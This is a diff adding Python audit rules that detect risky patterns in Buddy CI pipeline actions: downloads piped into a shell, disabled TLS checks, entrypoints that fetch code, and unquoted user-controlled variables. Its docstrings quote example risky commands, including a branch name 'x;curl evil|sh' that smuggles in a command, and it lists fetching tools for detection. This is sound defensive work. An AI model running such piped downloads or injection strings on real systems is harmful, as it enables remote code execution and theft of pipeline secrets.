@@ -1,0 +1,208 @@
+"""What the commands of Buddy actions do."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from airflow_provider.audit.analysis.shell.downloads import Downloads, Run
+from airflow_provider.audit.analysis.shell.fetching import only_asks
+from airflow_provider.audit.analysis.shell.script import Command
+from airflow_provider.audit.analysis.shell.unchecked_tls import by_assignment, by_command, by_variable
+from airflow_provider.audit.facts.action import SCRIPT_FIELDS, ActionFacts
+from airflow_provider.audit.rules.outcome import Outcome, fail, not_applicable, not_available
+from airflow_provider.audit.rules.rule import rule
+from airflow_provider.audit.settings.levels import Confidence, Persona, Severity
+from airflow_provider.audit.settings.model import AuditSettings
+
+
+@rule(
+    "BDY010",
+    "Download piped into a shell",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    reads=(*SCRIPT_FIELDS, "shell"),
+    needs=("EXECUTION_INFO",),
+)
+def download_into_shell(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A script is downloaded and run at once: by a pipe, ``bash <(curl ...)``, ``sh -c "$(curl ...)"``, ``iex (irm ...)``. Severity and
+    confidence are medium if it is saved first and run without checking a checksum or signature.
+
+    Why:
+    Whoever controls that server or its domain name can run commands in the pipeline, with all its secrets. Nobody can tell later what ran.
+
+    Fix:
+    Keep the script in the repository, or download a fixed version and verify its checksum before running it.
+
+    Before:
+    {"execute_commands": ["curl -sSL https://get.example.com/tool.sh | bash"]}
+
+    After:
+    {"execute_commands": ["curl -sSO https://get.example.com/1.4.2/tool.sh", "echo \"$SUM  tool.sh\" | sha256sum -c -", "bash tool.sh"]}
+    """
+    if not action.has_fields(*SCRIPT_FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    if any(script.cut for script in action.scripts()):
+        yield not_available("the commands are too long to be checked completely")
+    downloads = Downloads()
+    for commands in action.scripts():
+        runs: dict[int, Run] = {}
+        for before, script in commands.parsed:
+            for run in downloads.runs(script):
+                previous = runs.get(before + run.line)
+                if previous is None or (run.sure and not previous.sure):
+                    runs[before + run.line] = run
+        for line, run in runs.items():
+            yield fail(
+                commands.path_at(line),
+                run.shown,
+                "A download is run without checking its checksum." if run.saved else "A download is run directly.",
+                severity=Severity.MEDIUM if run.saved else None,
+                confidence=None if run.sure else Confidence.MEDIUM,
+            )
+
+
+@rule(
+    "BDY011",
+    "TLS verification disabled",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    reads=(*SCRIPT_FIELDS, "variables"),
+    needs=("EXECUTION_INFO",),
+)
+def tls_checks_off(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A command or an environment variable disables certificate verification: ``curl -k``, ``git -c http.sslVerify=false``,
+    ``NODE_TLS_REJECT_UNAUTHORIZED=0``. Confidence is low if the connection is to localhost only.
+
+    Why:
+    Anyone on the network path can impersonate the server, send other code, or read the password.
+
+    Fix:
+    Trust the certificate authority that signed the certificate: ``--cacert``, ``GIT_SSL_CAINFO``, ``NODE_EXTRA_CA_CERTS``, ``PIP_CERT``.
+
+    Before:
+    {"execute_commands": ["curl -k https://registry.example.com/v2/"]}
+
+    After:
+    {"execute_commands": ["curl --cacert ca.pem https://registry.example.com/v2/"]}
+    """
+    if not action.has_fields(*SCRIPT_FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    if any(script.cut for script in action.scripts()):
+        yield not_available("the commands are too long to be checked completely")
+    reported: set[tuple[str, str]] = set()
+    for commands in action.scripts():
+        places = [(path, shown, certain) for path, command in commands.every_command() for shown, certain in by_command(command)]
+        places += [(path, item.name, certain) for path, item in commands.every_assignment() if (certain := by_assignment(item))]
+        for path, shown, certain in places:
+            if (path, shown) not in reported:
+                reported.add((path, shown))
+                yield fail(path, shown, f"Certificates are not verified: {shown}.", confidence=certain)
+    for number, variable in enumerate(action.variables):
+        if variable.value is not None and (confidence := by_variable(variable.key, str(variable.value))):
+            yield fail(f"variables[{number}].value", variable.key, f"Certificates are not verified: {variable.key}.", confidence=confidence)
+
+
+@rule(
+    "BDY021",
+    "Entrypoint downloads something",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.LOW,
+    confidence=Confidence.MEDIUM,
+    reads=("entrypoint",),
+    needs=("EXECUTION_INFO",),
+)
+def entrypoint_fetches(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    The entrypoint that replaces the image's own downloads something. ``reset_entrypoint`` is not checked, since the audit does not know
+    whether the image needs its entrypoint.
+
+    Why:
+    Nobody looks for downloaded code in the command that starts a container.
+
+    Fix:
+    Build it into the image, or download it in a command of the action, where it is visible.
+
+    Before:
+    {"entrypoint": "sh -c 'curl -so /start.sh https://example.com/start.sh; sh /start.sh'"}
+
+    After:
+    {"entrypoint": "/usr/local/bin/start.sh"}
+    """
+    if not action.has_fields("entrypoint"):
+        yield not_available("entrypoint is not visible")
+        return
+    for commands in action.scripts():
+        if commands.path == "entrypoint":
+            name = next((command.name for _, command in commands.every_command() if _fetches(command)), None)
+            if name:
+                yield fail("entrypoint", name, f"The entrypoint downloads something with {name}.")
+
+
+def _fetches(command: Command) -> bool:
+    if command.name == "git":
+        return any(text in ("clone", "pull", "fetch") for text in command.arguments)
+    fetching = ("curl", "wget", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloadfile")
+    return command.name in fetching and not only_asks(command)
+
+
+@rule(
+    "BDY026",
+    "Injection from user-controlled variables",
+    on=ActionFacts,
+    systems=("buddy",),
+    severity=Severity.HIGH,
+    confidence=Confidence.LOW,
+    persona=Persona.STRICT,
+    reads=(*SCRIPT_FIELDS, "variables"),
+    needs=("EXECUTION_INFO",),
+)
+def injection_from_variables(action: ActionFacts, settings: AuditSettings) -> Iterator[Outcome]:
+    """
+    A variable that is set by the person who pushes or starts the pipeline, such as the branch or the commit message, is used without quotes
+    or inside a script that is passed as text.
+
+    Why:
+    A branch may be named ``x;curl evil|sh``, or like an option. In ``eval`` and ``sh -c`` even quotes do not help.
+
+    Fix:
+    Put it in double quotes, after ``--`` if it could be taken for an option, and pass it to scripts as an argument.
+
+    Before:
+    {"execute_commands": ["git checkout $BUDDY_EXECUTION_BRANCH"]}
+
+    After:
+    {"execute_commands": ["git checkout \"$BUDDY_EXECUTION_BRANCH\" --"]}
+    """
+    if not action.has_fields(*SCRIPT_FIELDS):
+        yield not_available("the commands are not visible")
+        return
+    scripts = [script for script in action.scripts() if (script.shell or "").upper() != "POWERSHELL"]
+    if not scripts:
+        yield not_applicable("there are no commands of a Unix shell")
+    passed = {variable.key for variable in action.variables if variable.settable}
+    for script in scripts:
+        reported: set[tuple[str, str]] = set()
+        for path, command in script.every_command():
+            if command.name in ("echo", "printf", "[[", "[", "export", "read", "test"):
+                continue
+            for word in command.words:
+                for expansion in word.expansions:
+                    name = expansion.name
+                    if not expansion.quoted and (_OF_A_PERSON.fullmatch(name) or name in passed) and (path, name) not in reported:
+                        reported.add((path, name))
+                        yield fail(path, f"{command.name} ${name}", f"{name} is used without quotes by {command.name}.")
+
+
+_OF_A_PERSON = re.compile(
+    r"BUDDY_(?:EXECUTION|RUN|PULL_REQUEST|TRIGGERING?|INVOKER|COMMIT)\w*?_(?:BRANCH|TAG|REFSPEC|REF|MESSAGE|SUBJECT|BODY|COMMENT|TITLE|NAME|EMAIL|DESCRIPTION)"
+)
